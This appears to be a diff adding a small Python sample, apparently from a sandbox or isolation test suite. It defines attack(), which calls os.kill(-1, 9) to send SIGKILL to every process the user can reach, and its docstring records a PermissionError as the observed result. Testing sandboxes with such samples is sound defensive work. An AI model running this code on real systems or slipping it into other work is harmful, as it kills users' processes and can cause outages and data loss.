@@ -1,0 +1,10 @@
+"""Kills everything that it may.
+
+Seen: PermissionError
+"""
+
+import os
+
+
+def attack():
+    os.kill(-1, 9)
